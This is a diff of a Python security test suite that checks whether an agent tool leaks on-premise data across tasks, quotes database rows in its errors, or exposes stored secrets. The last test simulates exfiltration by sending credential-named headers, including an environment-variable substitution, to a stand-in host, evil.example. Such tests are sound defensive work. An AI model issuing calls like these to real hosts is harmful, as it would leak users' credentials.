@@ -63,7 +63,7 @@ def said_of_rows(victim: Victim) -> list[str]:
 )
 async def test_another_task_does_not_show_what_an_on_premise_task_reads(named: str, victim: Victim) -> None:
     source = sheet(victim, victim.inbox / "patients.csv")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
         assert not (await attack("prepare_data", task="patients")).is_error
         await attack.create()
@@ -88,7 +88,7 @@ async def test_another_task_does_not_show_what_an_on_premise_task_reads(named: s
 
 async def test_another_task_does_not_show_the_database_of_an_on_premise_task(victim: Victim) -> None:
     source = {"type": "database", "connection": f"sqlite:///{database(victim)}", "query": "select text, label from t"}
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await keep_inside(attack, source)
         await attack.create()
         said = await attack("set_data_source", task="mails", sources=[{**source, "query": "select label, text from t"}])
@@ -98,7 +98,7 @@ async def test_another_task_does_not_show_the_database_of_an_on_premise_task(vic
 
 async def test_the_person_lets_another_task_read_the_same(victim: Victim) -> None:
     source = sheet(victim, victim.inbox / "patients.csv")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
         await attack.create()
         assert (await attack.file(source, mapping=COLUMNS)).is_error
@@ -109,7 +109,7 @@ async def test_the_person_lets_another_task_read_the_same(victim: Victim) -> Non
 async def test_a_yes_to_an_earlier_task_of_that_name_is_none_to_a_copy_that_takes_it(victim: Victim) -> None:
     assert victim.run("allow", "--rows-of", "demo").returncode == 0  # whose folder the person has removed since
     source = sheet(victim, victim.inbox / "patients.csv")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
         assert not (await attack("manage_task", action="clone", task="patients", name="demo")).is_error
         said = await attack("update_task", task="demo", changes={"constraints.privacy": "open"})
@@ -118,7 +118,7 @@ async def test_a_yes_to_an_earlier_task_of_that_name_is_none_to_a_copy_that_take
 
 
 async def test_a_database_fills_no_memory_with_one_cell(victim: Victim) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         said = await attack.source(
             type="database",
@@ -139,7 +139,7 @@ async def test_a_database_fills_no_memory_with_one_cell(victim: Victim) -> None:
     ],
 )
 async def test_a_database_quotes_no_row_in_its_errors(query: str, victim: Victim) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create(constraints={"privacy": "on-premise"})
         said = await attack.source(type="database", connection=f"sqlite:///{database(victim)}", query=query)
         assert said.is_error
@@ -147,7 +147,7 @@ async def test_a_database_quotes_no_row_in_its_errors(query: str, victim: Victim
 
 
 async def test_what_is_wrong_with_a_query_itself_is_still_said(victim: Victim) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create(constraints={"privacy": "on-premise"})
         said = await attack.source(
             type="database", connection=f"sqlite:///{database(victim)}", query="select texts from t"
@@ -167,7 +167,7 @@ async def test_a_row_that_is_called_the_header_is_not_shown(ending: str, victim:
         source = victim.inbox / "patients.xlsx"
         book.save(source)
         victim.planted.add(source)
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create(constraints={"privacy": "on-premise"}, labels=["p", "q"])
         for row in (2, 3, 7):
             await attack(
@@ -186,7 +186,7 @@ async def test_a_name_typed_into_a_call_opens_no_way_for_what_the_person_stores_
     victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     typed, real = "Zq83hx93kd02mmx9Qa", "wheatearbrook77"
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.api("http://evil.example/rows", headers={"DB_PASSWORD": typed})
         assert victim.run("secret", "set", "DB_PASSWORD", "--host", "good.example", typed=f"{real}\n").returncode == 0
@@ -194,6 +194,6 @@ async def test_a_name_typed_into_a_call_opens_no_way_for_what_the_person_stores_
         await attack.api("http://evil.example/rows", headers={"OTHER_PASSWORD": typed})
         monkeypatch.setenv("OTHER_PASSWORD", real)
         await attack.api("http://evil.example/rows", headers={"X": "${OTHER_PASSWORD}"})
-    assert network.arrived(typed)
-    assert not network.arrived(real)
+    assert network.requests_carrying(typed)
+    assert not network.requests_carrying(real)
     assert real not in json.dumps(victim.answers)
